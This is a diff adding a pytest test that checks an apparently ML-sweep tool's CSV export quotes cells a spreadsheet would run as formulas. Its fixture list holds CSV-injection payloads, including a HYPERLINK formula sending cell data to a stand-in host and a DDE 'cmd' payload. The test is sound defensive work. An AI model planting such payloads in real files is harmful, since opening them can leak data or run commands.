@@ -391,3 +391,55 @@ def test_parquet_fixed_columns_keep_their_types_when_empty(swept, tmp_path):
     for name, where in (("sw", swept), ("empty", store)):
         schema = pq.read_schema(export_sweep(name, tmp_path / f"{name}.parquet", format="parquet", store=where))
         assert {k: schema.field(k).type for k in expected} == expected, name
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
+            "\tTAB", "\rCR", "'=quoted", "plain", "-0.5"]
+_TRIGGER = ("=", "+", "-", "@", "\t", "\r", "\n")
+
+
+def _unescape(cell: str) -> str:
+    """What docs/integrations.md tells a reader: drop one leading quote from a text cell matching '+[=+-@\\t\\r\\n]."""
+    return cell[1:] if cell.startswith("'") and cell.lstrip("'").startswith(_TRIGGER) else cell
+
+
+def test_csv_text_cells_a_spreadsheet_would_run_as_formulas_are_quoted(tmp_path):
+    """CSV injection (OWASP): hostile text in a parameter's value and name, a final metric, and an error message
+    (a failed trial's reason) is written with a leading single quote; numbers (-0.5) stay numbers, and dropping
+    the quote gives back the exact text. The `sweeplab export` command writes the same table."""
+    store = tmp_path / "store"
+    outcome = sl.run_sweep({"function": f"{TRIALS}:hostile", "method": "grid",
+                            "metric": {"name": "loss", "goal": "minimize"},
+                            "parameters": {"label": {"values": FORMULAS}, "fail": {"values": [False, True]},
+                                           "x": {"value": -0.5}, "@cmd": {"value": "=1+1"}},
+                            "trial": {"retries": 0}}, store=store, name="hx", workers=2)
+    assert outcome.state.value == "finished"
+    cp = subprocess.run([sys.executable, "-m", "sweeplab", "export", "hx", "-o", "-"], capture_output=True,
+                        env={**os.environ, "SWEEPLAB_STORE": str(store)}, check=True)
+    file = export_sweep("hx", tmp_path / "hx.csv", store=store)
+    assert file.read_bytes() == cp.stdout
+    raw = list(csv.reader(file.open(newline="", encoding="utf-8")))
+    header, rows = raw[0], raw[1:]
+    assert "params.@cmd" in header                   # a header cell starts with its column group
+    for row in raw:
+        for cell in row:
+            assert not cell.startswith(_TRIGGER) or _is_number(cell), (cell, row)
+    table = [dict(zip(header, r)) for r in rows]
+    assert sorted({_unescape(r["params.label"]) for r in table}) == sorted(FORMULAS)
+    for r in table:
+        assert r["params.@cmd"] == "'=1+1" and _unescape(r["params.@cmd"]) == "=1+1"
+        assert r["params.x"] == "-0.5" and float(r["params.x"]) == -0.5       # a number: no quote
+        label = _unescape(r["params.label"])
+        if r["state"] == "failed":
+            assert _unescape(r["reason"]).endswith(label.strip()), r
+        else:
+            assert r["value"] == "-0.5" and r["metrics.loss"] == "-0.5"
+    assert {r["params.label"] for r in table} >= {"'-0.5", "''=quoted", "plain", "'@SUM(A1:A2)"}
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
